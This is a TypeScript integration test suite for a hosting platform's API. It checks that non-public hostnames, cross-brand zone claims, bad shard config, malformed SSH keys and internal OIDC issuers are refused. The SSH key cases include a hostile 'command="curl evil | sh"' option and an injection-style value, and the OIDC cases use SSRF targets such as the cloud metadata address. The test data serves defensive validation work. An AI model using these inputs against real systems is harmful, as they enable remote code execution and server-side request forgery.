// Who may use a host name, and the other hardening of issue 12, through the real API on a
// production-like stack (test domains not allowed): names must be public (fully qualified, no
// IP address, no special-use name, no test TLD), a name under a zone belongs to the zone's brand
// (FQDNs and zones alike, decided inside the write so concurrent requests cannot both pass),
// shard config holds only what its role reads, SSH keys must be real keys, and the OIDC issuer
// must be public https. Every refusal is a 4xx envelope and leaves the database as it was.
import { execFileSync } from "node:child_process"
import { randomUUID } from "node:crypto"
import { mkdtempSync, readFileSync, rmSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { waitFor } from "@hosting/dev"
import { createClient, type PromiseClient } from "@hosting/sdk"
import { Client, Connection } from "@temporalio/client"
import pg from "pg"
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest"
import { send } from "../support/contract.js"
import { postgresDatabase, type TestDatabase } from "../support/databases.js"
import { type Stack, startStack } from "../support/stack.js"

let db: TestDatabase
let stack: Stack
let sql: pg.Client
let temporal: Client
let keyDir: string
let admin: PromiseClient
let clientA: PromiseClient
let clientB: PromiseClient
const f = {} as {
  brandA: string
  brandB: string
  keyA: string
  keyB: string
  cluster: string
  webA: string
  webA2: string
  webB: string
  tenantA: string
  zoneA: string
}

// what a request writes (status and sync bookkeeping move on by themselves as syncs finish;
// that a refused request woke no zone's sync is checked on the workflow itself)
const SNAPSHOT = `SELECT json_build_object(
  'brands', (SELECT json_agg(b ORDER BY id) FROM brands b),
  'platform', (SELECT json_agg(config) FROM platform_config),
  'shards', (SELECT json_agg(json_build_object('id', id, 'name', name, 'role', role, 'config', config, 'updated_at', updated_at) ORDER BY id) FROM shards),
  'fqdns', (SELECT json_agg(json_build_object('id', id, 'webroot_id', webroot_id, 'hostname', hostname, 'revision', revision) ORDER BY id) FROM fqdns),
  'ssh_keys', (SELECT json_agg(json_build_object('id', id, 'tenant_id', tenant_id, 'name', name, 'public_key', public_key, 'revision', revision) ORDER BY id) FROM ssh_keys),
  'zones', (SELECT json_agg(json_build_object('id', id, 'brand_id', brand_id, 'tenant_id', tenant_id, 'name', name, 'revision', revision) ORDER BY id) FROM zones),
  'dns_records', (SELECT json_agg(json_build_object('id', id, 'zone_id', zone_id, 'name', name, 'data', data, 'revision', revision) ORDER BY id) FROM dns_records)
) AS s`
const snapshot = async () => JSON.stringify((await sql.query(SNAPSHOT)).rows[0].s)

/** Sends a raw request as `key`; the answer's status and body. */
const call = (method: string, path: string, key: string, body?: unknown) =>
  send(stack.baseUrl, { method }, path, key, body === undefined ? undefined : JSON.stringify(body))

interface Refusal {
  readonly status: number
  readonly code: string
  readonly message: string
}

/**
 * A request that must be refused with exactly this status, code and message, changing nothing.
 * A 400 is matched on its first issue (`path: reason`): an optional or nullable field's issues
 * go on to list the alternatives the value is not (`Expected undefined, actual …`).
 */
const refused = async (method: string, path: string, key: string, body: unknown, expected: Refusal) => {
  const before = await snapshot()
  const res = await call(method, path, key, body)
  const message: string | undefined = res.json?.error?.message
  const seen =
    expected.code === "invalid_request" && message?.startsWith(`${expected.message}; `) ? expected.message : message
  expect({ status: res.status, code: res.json?.error?.code, message: seen }).toEqual(expected)
  expect(await snapshot(), `${method} ${path} changed the database`).toBe(before)
  return res.json
}

const invalidRequest = (path: string, reason: string): Refusal => ({
  status: 400,
  code: "invalid_request",
  message: `invalid request: ${path}: ${reason}`,
})
const invalidInput = (message: string): Refusal => ({ status: 422, code: "invalid_input", message })
const conflict = (message: string): Refusal => ({ status: 409, code: "conflict", message })

/** Waits until the DNS sync of a zone has finished its round (no DNS node here: it fails, and stays so). */
const zoneSettled = (id: string) =>
  waitFor(
    `zone ${id} to settle`,
    async () => (await sql.query("SELECT status FROM zones WHERE id = $1", [id])).rows[0]?.status === "failed",
    30_000,
  )

/** The zone's sync workflow as Temporal knows it: a refused request must neither start nor signal it. */
const zoneWorkflow = async (id: string) => {
  const d = await temporal.workflow.getHandle(`zone:${id}:sync`).describe()
  return { runId: d.runId, historyLength: d.historyLength, status: d.status.name }
}

const sshKeygen = (type: ReadonlyArray<string>, comment: string) => {
  const file = join(keyDir, `key-${randomUUID()}`)
  execFileSync("ssh-keygen", ["-q", ...type, "-N", "", "-C", comment, "-f", file])
  return readFileSync(`${file}.pub`, "utf8").trim()
}

beforeAll(async () => {
  db = await postgresDatabase(inject("postgresAdminUrl"), "hp_ownership")
  stack = await startStack({
    databaseUrl: db.url,
    temporalAddress: inject("temporalAddress"),
    // production's rule: names under test and example are refused (the other suites allow them)
    env: { HOSTING_ALLOW_TEST_DOMAINS: "false", HOSTING_AGENT_TIMEOUT_SECONDS: "2" },
  })
  sql = new pg.Client({ connectionString: db.url })
  await sql.connect()
  temporal = new Client({ connection: await Connection.connect({ address: inject("temporalAddress") }) })
  keyDir = mkdtempSync(join(tmpdir(), "ownership-keys-"))
  admin = createClient({ baseUrl: stack.baseUrl, apiKey: stack.apiKey })
  await admin.platform.updateConfig({
    payload: { ns_hostnames: ["ns1.hosting.example.net", "ns2.hosting.example.net"] },
  })
  const region = await admin.regions.create({ payload: { name: "ownership" } })
  const cluster = await admin.clusters.create({ path: { id: region.id }, payload: { name: "c" } })
  await admin.shards.create({ path: { id: cluster.id }, payload: { name: "web", role: "web" } })
  await admin.lbAddresses.create({ path: { id: cluster.id }, payload: { address: "192.0.2.1" } })
  const brandA = await admin.brands.create({ payload: { name: "Brand A" } })
  const brandB = await admin.brands.create({ payload: { name: "Brand B" } })
  const keyA = await admin.apiKeys.create({ payload: { name: "key A", scopes: ["*"], brands: [brandA.id] } })
  const keyB = await admin.apiKeys.create({ payload: { name: "key B", scopes: ["*"], brands: [brandB.id] } })
  clientA = createClient({ baseUrl: stack.baseUrl, apiKey: keyA.key })
  clientB = createClient({ baseUrl: stack.baseUrl, apiKey: keyB.key })
  const webroot = async (client: PromiseClient, brandId: string) => {
    await admin.brands.setClusters({ path: { id: brandId as never }, payload: { cluster_ids: [cluster.id] } })
    const tenant = await client.tenants.create({ payload: { brand_id: brandId as never } })
    const w = await client.webroots.create({ path: { id: tenant.id }, payload: { runtime: "php" } })
    const w2 = await client.webroots.create({ path: { id: tenant.id }, payload: { runtime: "static" } })
    return { tenant: tenant.id, webroot: w.id, second: w2.id }
  }
  const a = await webroot(clientA, brandA.id)
  const b = await webroot(clientB, brandB.id)
  const zoneA = await clientA.zones.create({ payload: { name: "shop-a.example.com", brand_id: brandA.id } })
  Object.assign(f, {
    brandA: brandA.id,
    brandB: brandB.id,
    keyA: keyA.key,
    keyB: keyB.key,
    cluster: cluster.id,
    webA: a.webroot,
    webA2: a.second,
    webB: b.webroot,
    tenantA: a.tenant,
    zoneA: zoneA.id,
  })
  await zoneSettled(zoneA.id)
})

afterAll(async () => {
  await sql?.end()
  await temporal?.connection.close()
  await stack?.stop()
  await db?.stop()
  if (keyDir !== undefined) rmSync(keyDir, { recursive: true, force: true })
})

describe("public host names", () => {
  const FQ = "must be fully qualified, with at least two labels (example.com)"
  const IP = "must not be an IP address: the top-level label must not be a number"
  const NOT_PUBLIC: ReadonlyArray<readonly [string, string]> = [
    ["localhost", FQ],
    ["intranet", FQ],
    ["2130706433", FQ],
    ["192.0.2.1", IP], // the cluster's own LB address: it would capture every request sent to it by IP
    ["127.0.0.1", IP],
    ["0x7f.1", IP],
    ["127.1", IP],
    ["www.localhost", "must not be under the special-use domain localhost (RFC 6761)"],
    ["printer.local", "must not be under the special-use domain local (RFC 6762)"],
    ["shop.invalid", "must not be under the special-use domain invalid (RFC 6761)"],
    ["hidden.onion", "must not be under the special-use domain onion (RFC 7686)"],
  ]

  it("an FQDN must be a public name (400)", async () => {
    for (const [hostname, reason] of NOT_PUBLIC) {
      await refused(
        "POST",
        `/api/v1/webroots/${f.webA}/fqdns`,
        f.keyA,
        { hostname },
        invalidRequest("hostname", reason),
      )
    }
  })

  it("so must a zone, the base domain and NS host names of the platform and of brands (400)", async () => {
    for (const [name, reason] of NOT_PUBLIC) {
      await refused("POST", "/api/v1/zones", f.keyA, { name, brand_id: f.brandA }, invalidRequest("name", reason))
      await refused(
        "PUT",
        "/api/v1/platform/config",
        stack.apiKey,
        { base_domain: name },
        invalidRequest("base_domain", reason),
      )
      await refused(
        "PUT",
        "/api/v1/platform/config",
        stack.apiKey,
        { ns_hostnames: ["ns1.example.net", name] },
        invalidRequest("ns_hostnames.1", reason),
      )
      await refused(
        "PUT",
        `/api/v1/brands/${f.brandA}`,
        f.keyA,
        { ns_hostnames: [name] },
        invalidRequest("ns_hostnames.0", reason),
      )
      await refused(
        "POST",
        "/api/v1/brands",
        stack.apiKey,
        { name: `Brand ${randomUUID()}`, ns_hostnames: [name] },
        invalidRequest("ns_hostnames.0", reason),
      )
    }
  })

  it("names under the test TLDs are refused where test domains are not allowed (422)", async () => {
    const testTld = (field: string, name: string, tld: string) =>
      invalidInput(
        `${field}: ${name} is under ${tld}, a top-level domain reserved for testing (RFC 6761); this platform serves only public names`,
      )
    await refused(
      "POST",
      `/api/v1/webroots/${f.webA}/fqdns`,
      f.keyA,
      { hostname: "shop.example.test." },
      testTld("hostname", "shop.example.test", "test"),
    )
    await refused(
      "POST",
      "/api/v1/zones",
      f.keyA,
      { name: "acme.example", brand_id: f.brandA },
      testTld("name", "acme.example", "example"),
    )
    await refused(
      "PUT",
      "/api/v1/platform/config",
      stack.apiKey,
      { base_domain: "hosting.test" },
      testTld("base_domain", "hosting.test", "test"),
    )
    await refused(
      "PUT",
      "/api/v1/platform/config",
      stack.apiKey,
      { ns_hostnames: ["ns1.example.net", "ns2.acme.example"] },
      testTld("ns_hostnames", "ns2.acme.example", "example"),
    )
    await refused(
      "PUT",
      `/api/v1/brands/${f.brandA}`,
      f.keyA,
      { ns_hostnames: ["ns1.a.test"] },
      testTld("ns_hostnames", "ns1.a.test", "test"),
    )
    await refused(
      "POST",
      "/api/v1/brands",
      stack.apiKey,
      { name: "Test TLD brand", ns_hostnames: ["ns1.a.example"] },
      testTld("ns_hostnames", "ns1.a.example", "example"),
    )
  })

  it("public names are accepted as sent (example.com is a public second-level name, not the example TLD)", async () => {
    const fqdn = await clientA.fqdns.create({
      path: { id: f.webA as never },
      payload: { hostname: "www.example.org." },
    })
    expect(fqdn).toMatchObject({ hostname: "www.example.org", tenant_id: f.tenantA, status: "pending" })
    const brand = await clientA.brands.update({
      path: { id: f.brandA as never },
      payload: { ns_hostnames: ["ns1.brand-a.example.com", "ns2.brand-a.example.com"] },
    })
    expect(brand.ns_hostnames).toEqual(["ns1.brand-a.example.com", "ns2.brand-a.example.com"])
  })
})

describe("a name under a zone belongs to the zone's brand", () => {
  it("another brand cannot bind the zone's apex or any name under it (409, naming neither brand nor zone id)", async () => {
    await zoneSettled(f.zoneA)
    const before = await zoneWorkflow(f.zoneA)
    for (const hostname of ["shop-a.example.com", "www.shop-a.example.com", "deep.er.shop-a.example.com"]) {
      const body = await refused(
        "POST",
        `/api/v1/webroots/${f.webB}/fqdns`,
        f.keyB,
        { hostname },
        conflict(
          `${hostname} is in the DNS zone shop-a.example.com, which belongs to another brand; only that brand can bind names there`,
        ),
      )
      for (const secret of [f.brandA, "Brand A", f.zoneA]) expect(JSON.stringify(body)).not.toContain(secret)
    }
    // the other brand's zone sync was neither started nor signalled
    expect(await zoneWorkflow(f.zoneA)).toEqual(before)
  })

  it("the zone's own brand binds names under it", async () => {
    const fqdn = await clientA.fqdns.create({
      path: { id: f.webA as never },
      payload: { hostname: "www.shop-a.example.com" },
    })
    expect(fqdn).toMatchObject({ hostname: "www.shop-a.example.com", tenant_id: f.tenantA })
  })

  it("a bound name is bound once: neither another brand nor the same brand binds it again (409)", async () => {
    await clientA.fqdns.create({ path: { id: f.webA as never }, payload: { hostname: "once.example.org" } })
    const taken = conflict("once.example.org is already bound to a webroot")
    await refused("POST", `/api/v1/webroots/${f.webB}/fqdns`, f.keyB, { hostname: "once.example.org" }, taken)
    await refused("POST", `/api/v1/webroots/${f.webA2}/fqdns`, f.keyA, { hostname: "once.example.org." }, taken)
  })

  it("a zone may not reach over or under another brand's zone or bound names (409, not naming them)", async () => {
    await clientA.fqdns.create({ path: { id: f.webA as never }, payload: { hostname: "blog.example.net" } })
    const holds = (name: string) =>
      conflict(`${name} holds host names bound by another brand; a zone there would take them`)
    for (const name of ["example.net", "blog.example.net"]) {
      const body = await refused("POST", "/api/v1/zones", f.keyB, { name, brand_id: f.brandB }, holds(name))
      expect(JSON.stringify(body)).not.toContain(f.brandA)
    }
    for (const name of ["sub.shop-a.example.com", "example.com"]) {
      await refused(
        "POST",
        "/api/v1/zones",
        f.keyB,
        { name, brand_id: f.brandB },
        conflict(`${name} overlaps the zone shop-a.example.com of another brand`),
      )
    }
    // the owner of the bound name may create the zone around it
    const own = await clientA.zones.create({ payload: { name: "example.net", brand_id: f.brandA as never } })
    expect(own).toMatchObject({ name: "example.net", brand_id: f.brandA })
  })

  it("concurrent requests about the same names cannot both pass", async () => {
    const outcomes: Array<string> = []
    for (let i = 0; i < 12; i++) {
      // brand A asks for a zone while brand B binds a name under it, and a zone below it
      const [zone, fqdn, nested] = await Promise.all([
        call("POST", "/api/v1/zones", f.keyA, { name: `race${i}.example.com`, brand_id: f.brandA }),
        call("POST", `/api/v1/webroots/${f.webB}/fqdns`, f.keyB, { hostname: `www.race${i}.example.com` }),
        call("POST", "/api/v1/zones", f.keyB, { name: `sub.race${i}.example.com`, brand_id: f.brandB }),
      ])
      outcomes.push(`${zone.status}/${fqdn.status}/${nested.status}`)
      for (const res of [zone, fqdn, nested]) expect([201, 202, 409]).toContain(res.status)
      // either A's zone won and B got nothing, or B got in first and A's zone was refused
      expect(zone.status === 409 || (fqdn.status === 409 && nested.status === 409), outcomes.join(" ")).toBe(true)
    }
    // whatever the interleaving, no name of one brand ended up under a zone of the other
    const crossed = await sql.query(`SELECT f.hostname, z.name FROM fqdns f JOIN tenants t ON t.id = f.tenant_id
      JOIN zones z ON (f.hostname = z.name OR f.hostname LIKE '%.' || z.name) AND z.brand_id <> t.brand_id
      UNION ALL SELECT a.name, b.name FROM zones a JOIN zones b ON a.name LIKE '%.' || b.name AND a.brand_id <> b.brand_id`)
    expect(crossed.rows).toEqual([])
  })
})

describe("shard config holds only what the shard's role reads", () => {
  const shardsPath = () => `/api/v1/clusters/${f.cluster}/shards`

  it("unknown keys and free-form values are refused (400), a NUL included", async () => {
    await refused(
      "POST",
      shardsPath(),
      stack.apiKey,
      { name: "web-motd", role: "web", config: { motd: "line\nbreak" } },
      invalidRequest("config.motd", 'is unexpected, expected: "primary_node_id" | "web_port"'),
    )
    // PostgreSQL's jsonb cannot hold \u0000: this was a 500
    await refused(
      "POST",
      shardsPath(),
      stack.apiKey,
      { name: "dns-nul", role: "dns", config: { "\u0000": "\u0000" } },
      invalidRequest("config.\u0000", 'is unexpected, expected: "primary_node_id" | "web_port"'),
    )
    const before = await snapshot()
    const big = await call("POST", shardsPath(), stack.apiKey, {
      name: "s3-big",
      role: "s3",
      config: { web_port: "9".repeat(100_000) },
    })
    expect({ status: big.status, code: big.json.error.code }).toEqual({ status: 400, code: "invalid_request" })
    // (compared by its start: the message quotes the 100 kB value)
    expect(big.json.error.message.slice(0, 60)).toBe('invalid request: config.web_port: Expected number, actual "9')
    expect(await snapshot()).toBe(before)
  })

  it("web, dns, email and s3 shards take no settings; lb takes web_port (422 for another role's setting)", async () => {
    for (const role of ["web", "dns", "email", "s3"]) {
      await refused(
        "POST",
        shardsPath(),
        stack.apiKey,
        { name: `${role}-port`, role, config: { web_port: 8000 } },
        invalidInput(`config: web_port is not a setting of a ${role} shard; it takes none (config must be {})`),
      )
      const ok = await admin.shards.create({
        path: { id: f.cluster as never },
        payload: { name: `${role}-ok`, role: role as never, config: {} },
      })
      expect(ok.config).toEqual({})
      await refused(
        "PUT",
        `/api/v1/shards/${ok.id}`,
        stack.apiKey,
        { config: { primary_node_id: randomUUID(), web_port: 80 } },
        invalidInput(
          `config: primary_node_id, web_port are not settings of a ${role} shard; it takes none (config must be {})`,
        ),
      )
    }
    const lb = await admin.shards.create({
      path: { id: f.cluster as never },
      payload: { name: "lb", role: "lb", config: { web_port: 8080 } },
    })
    expect(lb.config).toEqual({ web_port: 8080 })
    await refused(
      "PUT",
      `/api/v1/shards/${lb.id}`,
      stack.apiKey,
      { config: { primary_node_id: randomUUID() } },
      invalidInput("config: primary_node_id is not a setting of a lb shard; it takes web_port"),
    )
  })
})

describe("SSH keys must be real keys", () => {
  const keysPath = () => `/api/v1/tenants/${f.tenantA}/ssh-keys`

  it("a key of every supported type is stored exactly as ssh-keygen printed it, comment included", async () => {
    for (const type of [
      ["-t", "ed25519"],
      ["-t", "ecdsa", "-b", "384"],
      ["-t", "rsa", "-b", "2048"],
    ]) {
      const publicKey = sshKeygen(type, "jane@laptop")
      const key = await clientA.sshKeys.create({
        path: { id: f.tenantA as never },
        payload: { name: `key ${type[1]}`, public_key: publicKey },
      })
      expect(key.public_key).toBe(publicKey)
    }
  })

  it("a type without key bytes, options before the type, a short RSA key and a second line are refused (400)", async () => {
    const ed25519 = sshKeygen(["-t", "ed25519"], "x")
    const typeOnly = `ssh-ed25519 ${Buffer.from([0, 0, 0, 11, ...Buffer.from("ssh-ed25519")]).toString("base64")}`
    const shape =
      "must be one OpenSSH public key, `type base64 [comment]`: no options before the type; comment: up to 100 letters, digits and @._+-"
    const cases: ReadonlyArray<readonly [string, string]> = [
      [typeOnly, "the key data is not a ssh-ed25519 key: it must hold one 32-byte public key"],
      [sshKeygen(["-t", "rsa", "-b", "1024"], "x"), "the ssh-rsa key has 1024 bits; at least 2048 are required"],
      [`command="curl evil | sh" ${ed25519}`, shape],
      [`${ed25519}\n${sshKeygen(["-t", "ed25519"], "y")}`, shape],
      [sshKeygen(["-t", "dsa"], "x"), shape],
      [`${ed25519} x; return 200`, shape],
    ]
    for (const [public_key, reason] of cases) {
      await refused("POST", keysPath(), f.keyA, { name: "bad", public_key }, invalidRequest("public_key", reason))
    }
  })
})

describe("the OIDC issuer", () => {
  it("must be public https: not http, not an internal address in any notation (400)", async () => {
    const cases: ReadonlyArray<readonly [string, string]> = [
      ["http://idp.example.com/", "must be an https URL (http only for a loopback issuer in development)"],
      ["https://169.254.169.254/latest", "must not point at a link-local address"],
      ["https://10.0.0.1/", "must not point at a private address"],
      ["https://0xc0a80001/", "must not point at a private address"],
      ["https://[fd00::1]/", "must not point at a private address"],
      ["https://[fe80::1]/", "must not point at a link-local address"],
      ["https://idp.corp.local/", "its host must not be under the special-use domain local (RFC 6762)"],
    ]
    for (const [oidc_issuer, reason] of cases) {
      await refused(
        "PUT",
        "/api/v1/platform/config",
        stack.apiKey,
        { oidc_issuer },
        invalidRequest("oidc_issuer", reason),
      )
    }
  })

  it("a loopback issuer is for development only (422 here)", async () => {
    for (const oidc_issuer of ["http://127.0.0.1:5556/dex", "https://localhost/", "http://[::1]/"]) {
      await refused(
        "PUT",
        "/api/v1/platform/config",
        stack.apiKey,
        { oidc_issuer },
        invalidInput(
          `oidc_issuer: ${oidc_issuer} is on this machine (loopback); a loopback issuer is accepted only in development`,
        ),
      )
    }
  })

  it("a public https issuer is stored", async () => {
    const config = await admin.platform.updateConfig({
      payload: { oidc_issuer: "https://login.example.com/realms/acme" },
    })
    expect(config.oidc_issuer).toBe("https://login.example.com/realms/acme")
    expect((await admin.platform.getConfig()).oidc_issuer).toBe("https://login.example.com/realms/acme")
  })
})
